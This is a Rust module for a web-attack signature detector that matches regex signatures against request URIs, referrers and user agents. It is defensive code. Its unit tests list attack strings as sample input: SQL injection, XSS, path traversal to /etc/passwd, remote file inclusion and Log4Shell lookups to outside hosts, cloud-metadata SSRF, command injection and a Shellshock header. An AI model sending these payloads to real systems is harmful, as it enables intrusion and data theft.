//! Web-attack signatures: data, not code. The built-in set
//! (`signatures.toml`, embedded) plus files a policy push or the
//! configuration adds (`*.websig`, same format). Each field of a request
//! is normalised once ([`super::normalize`]) and matched against one
//! [`RegexSet`] per field, so the cost does not grow with the number of
//! signatures. Patterns are compiled with ASCII semantics (`\b`, `\w`,
//! `\s`, `.` over bytes): the keywords are ASCII, and Unicode word
//! boundaries would keep the DFA engines off every request with
//! Vietnamese text in it.

use std::path::{Path, PathBuf};

use regex::bytes::{RegexSet, RegexSetBuilder};
use serde::Deserialize;

const BUILTIN: &str = include_str!("signatures.toml");

/// The request fields a signature looks at.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Field {
    Uri,
    Referrer,
    UserAgent,
}

impl Field {
    pub fn name(self) -> &'static str {
        match self {
            Field::Uri => "uri",
            Field::Referrer => "referrer",
            Field::UserAgent => "ua",
        }
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawFile {
    #[serde(default)]
    signature: Vec<RawSignature>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawSignature {
    id: u32,
    category: String,
    name: String,
    pattern: Option<String>,
    fields: Option<Vec<String>>,
    enabled: Option<bool>,
}

#[derive(Debug, Clone)]
pub struct Signature {
    pub id: u32,
    pub category: String,
    pub name: String,
    pattern: String,
    fields: Vec<Field>,
}

/// Compiled signatures.
#[derive(Debug, Clone)]
pub struct SignatureSet {
    sigs: Vec<Signature>,
    sets: Vec<(Field, RegexSet, Vec<usize>)>,
}

/// One match: the signature and the field it matched in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hit {
    pub sig: usize,
    pub field: Field,
}

fn parse_into(text: &str, origin: &str, sigs: &mut Vec<Signature>) -> Result<(), String> {
    let raw: RawFile = toml::from_str(text).map_err(|e| format!("{origin}: {}", e.message().trim()))?;
    for r in raw.signature {
        let at = format!("{origin}: signature {}", r.id);
        let existing = sigs.iter().position(|s| s.id == r.id);
        if r.enabled == Some(false) {
            if let Some(i) = existing {
                sigs.remove(i);
            }
            continue;
        }
        let pattern = r.pattern.ok_or_else(|| format!("{at}: `pattern` is missing"))?;
        regex::bytes::RegexBuilder::new(&pattern)
            .unicode(false)
            .size_limit(1 << 20)
            .build()
            .map_err(|e| format!("{at}: invalid pattern: {e}"))?;
        let fields = match r.fields {
            None => vec![Field::Uri, Field::Referrer],
            Some(f) => f
                .iter()
                .map(|n| match n.as_str() {
                    "uri" => Ok(Field::Uri),
                    "referrer" | "referer" => Ok(Field::Referrer),
                    "ua" | "user_agent" => Ok(Field::UserAgent),
                    other => Err(format!("{at}: unknown field `{other}` (expected uri, referrer, ua)")),
                })
                .collect::<Result<Vec<_>, _>>()?,
        };
        if r.category.trim().is_empty() || r.name.trim().is_empty() {
            return Err(format!("{at}: `category` and `name` must not be empty"));
        }
        let sig = Signature { id: r.id, category: r.category, name: r.name, pattern, fields };
        match existing {
            Some(i) => sigs[i] = sig,
            None => sigs.push(sig),
        }
    }
    Ok(())
}

impl SignatureSet {
    /// The built-in signatures.
    pub fn builtin() -> SignatureSet {
        match SignatureSet::load(&[]) {
            Ok(s) => s,
            // the embedded file is checked by a unit test
            Err(e) => {
                tracing::error!(error = %e, "built-in web signatures do not compile");
                SignatureSet { sigs: Vec::new(), sets: Vec::new() }
            }
        }
    }

    /// The built-in signatures, then each file in order (a later id
    /// replaces an earlier one). Errors name the file and the signature.
    pub fn load(files: &[PathBuf]) -> Result<SignatureSet, String> {
        let mut sigs = Vec::new();
        parse_into(BUILTIN, "built-in web signatures", &mut sigs)?;
        for f in files {
            let text = std::fs::read_to_string(f).map_err(|e| format!("cannot read {}: {e}", f.display()))?;
            parse_into(&text, &f.display().to_string(), &mut sigs)?;
        }
        SignatureSet::compile(sigs)
    }

    /// Checks a signature file without loading it.
    pub fn check_file(path: &Path) -> Result<usize, String> {
        let text =
            std::fs::read_to_string(path).map_err(|e| format!("cannot read {}: {e}", path.display()))?;
        SignatureSet::check_text(&text, &path.display().to_string())
    }

    /// Checks the text of a signature file (the collector's `policy push`):
    /// the number of signatures it defines.
    pub fn check_text(text: &str, origin: &str) -> Result<usize, String> {
        let mut sigs = Vec::new();
        parse_into(text, origin, &mut sigs)?;
        Ok(sigs.len())
    }

    fn compile(sigs: Vec<Signature>) -> Result<SignatureSet, String> {
        let mut sets = Vec::new();
        for field in [Field::Uri, Field::Referrer, Field::UserAgent] {
            let idx: Vec<usize> =
                sigs.iter().enumerate().filter(|(_, s)| s.fields.contains(&field)).map(|(i, _)| i).collect();
            // ASCII classes and word boundaries: the keywords are ASCII, and a
            // Unicode `\b` would keep the fast DFA engines off any request
            // with Vietnamese text in it
            let set = RegexSetBuilder::new(idx.iter().map(|i| sigs[*i].pattern.as_str()))
                .unicode(false)
                .size_limit(64 << 20)
                .dfa_size_limit(16 << 20)
                .build()
                .map_err(|e| format!("web signatures for {}: {e}", field.name()))?;
            sets.push((field, set, idx));
        }
        Ok(SignatureSet { sigs, sets })
    }

    pub fn len(&self) -> usize {
        self.sigs.len()
    }

    pub fn is_empty(&self) -> bool {
        self.sigs.is_empty()
    }

    pub fn get(&self, i: usize) -> Option<&Signature> {
        self.sigs.get(i)
    }

    /// Signatures matching the normalised fields of a request.
    pub fn matches(&self, uri: &str, referrer: Option<&str>, ua: Option<&str>, hits: &mut Vec<Hit>) {
        hits.clear();
        for (field, set, idx) in &self.sets {
            let text = match field {
                Field::Uri => uri,
                Field::Referrer => match referrer {
                    Some(r) => r,
                    None => continue,
                },
                Field::UserAgent => match ua {
                    Some(u) => u,
                    None => continue,
                },
            };
            if text.is_empty() || !set.is_match(text.as_bytes()) {
                continue;
            }
            for m in set.matches(text.as_bytes()).iter() {
                let sig = idx[m];
                if !hits.iter().any(|h| h.sig == sig) {
                    hits.push(Hit { sig, field: *field });
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{super::normalize::normalize, *};

    fn cats(set: &SignatureSet, raw_uri: &str) -> Vec<String> {
        let mut hits = Vec::new();
        set.matches(&normalize(raw_uri), None, None, &mut hits);
        let mut v: Vec<String> = hits.iter().map(|h| set.get(h.sig).unwrap().category.clone()).collect();
        v.sort();
        v.dedup();
        v
    }

    #[test]
    fn builtin_set_compiles_and_catches_the_families() {
        let set = SignatureSet::load(&[]).unwrap();
        assert!(set.len() >= 25, "{}", set.len());
        for (uri, cat) in [
            ("/news.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--", "sqli"),
            ("/item?id=1'%20or%20'1'='1", "sqli"),
            ("/item?id=1%27%20AND%205123%3D5123%20AND%20%27a%27%3D%27a", "sqli"),
            ("/item?id=1)%20AND%20SLEEP(5)%23", "sqli"),
            ("/item?id=1%2527+UnIoN/**/SeLeCt+1,2", "sqli"),
            ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
            ("/search?q=%22%3E%3Csvg/onload%3Dalert(document.domain)%3E", "xss"),
            ("/p?u=javascript:alert(1)", "xss"),
            ("/download?file=../../../../etc/passwd", "lfi"),
            ("/download?file=..%252f..%252f..%252fwindows/win.ini", "traversal"),
            ("/index.php?page=php://filter/convert.base64-encode/resource=index", "lfi"),
            ("/index.php?page=http://203.0.113.66/shell.txt?", "rfi"),
            ("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
            ("/ping?host=127.0.0.1;cat%20/etc/passwd", "cmdi"),
            ("/ping?host=1.1.1.1|id", "cmdi"),
            ("/?x=${jndi:ldap://203.0.113.5:1389/a}", "log4shell"),
            ("/?x=${${lower:j}ndi:ldap://x/a}", "log4shell"),
            ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "exploit"),
            ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "exploit"),
            ("/index.action?redirect:%25{(new+java.lang.ProcessBuilder)}", "ognl"),
        ] {
            assert!(cats(&set, uri).contains(&cat.to_string()), "{uri}: {:?}", cats(&set, uri));
        }
        let mut hits = Vec::new();
        set.matches("/", None, Some(&normalize("() { :; }; /bin/bash -c 'id'")), &mut hits);
        assert!(hits.iter().any(|h| set.get(h.sig).unwrap().category == "shellshock"), "{hits:?}");
    }

    #[test]
    fn ordinary_requests_match_nothing() {
        let set = SignatureSet::load(&[]).unwrap();
        for uri in [
            "/",
            "/tin-tuc/chi-tiet?id=12345&cat=3&page=2",
            "/tim-kiem?q=Ngh%E1%BB%8B+%C4%91%E1%BB%8Bnh+13%2F2023%2FN%C4%90-CP+v%E1%BB%81+b%E1%BA%A3o+v%E1%BB%87+d%E1%BB%AF+li%E1%BB%87u",
            "/tim-kiem?q=th%E1%BB%A7+t%E1%BB%A5c+c%E1%BA%A5p+gi%E1%BA%A5y+ph%C3%A9p+x%C3%A2y+d%E1%BB%B1ng+(s%E1%BB%ADa+%C4%91%E1%BB%95i)",
            "/search?q=h%E1%BB%93+s%C6%A1+%27%C4%91%E1%BA%A5t+%C4%91ai%27+and+more",
            "/static/js/app.min.js?v=3.2.1",
            "/login?returnUrl=https%3A%2F%2Fdichvucong.example.gov.vn%2Fho-so%3Fid%3D5",
            "/api/v1/documents?sort=created_at&order=desc&limit=20",
            "/van-ban/quyet-dinh-so-1234/QD-UBND.pdf",
            "/images/logo.png",
            "/index.php?option=com_content&view=article&id=77:gioi-thieu&catid=8",
            "/a;jsessionid=0A1B2C3D4E?x=1",
        ] {
            assert!(cats(&set, uri).is_empty(), "{uri}: {:?}", cats(&set, uri));
        }
        let mut hits = Vec::new();
        for ua in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1 Zalo iOS/493",
            "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.1) Gecko/2008072820 Firefox/3.0.1",
        ] {
            set.matches("/", None, Some(&normalize(ua)), &mut hits);
            assert!(hits.is_empty(), "{ua}: {hits:?}");
        }
    }

    #[test]
    fn files_add_replace_and_disable_and_errors_name_the_place() {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("local.websig");
        std::fs::write(
            &f,
            "[[signature]]\nid = 9001\ncategory = \"exploit\"\nname = \"local\"\npattern = '/secret-admin'\n\
             [[signature]]\nid = 2001\ncategory = \"xss\"\nname = \"off\"\nenabled = false\n",
        )
        .unwrap();
        let set = SignatureSet::load(std::slice::from_ref(&f)).unwrap();
        assert_eq!(cats(&set, "/secret-admin"), vec!["exploit"]);
        assert!(cats(&set, "/?q=<script>").is_empty(), "2001 is off");
        assert!((0..set.len()).all(|i| set.get(i).unwrap().id != 2001));
        std::fs::write(
            &f,
            "[[signature]]\nid = 7\ncategory = \"x\"\nname = \"bad\"\npattern = '(unclosed'\n",
        )
        .unwrap();
        let e = SignatureSet::load(std::slice::from_ref(&f)).unwrap_err();
        assert!(
            e.contains("local.websig") && e.contains("signature 7") && e.contains("invalid pattern"),
            "{e}"
        );
        std::fs::write(
            &f,
            "[[signature]]\nid = 7\ncategory = \"x\"\nname = \"bad\"\npattern = 'a'\nfields = [\"cookie\"]\n",
        )
        .unwrap();
        assert!(SignatureSet::check_file(&f).unwrap_err().contains("unknown field `cookie`"));
    }
}
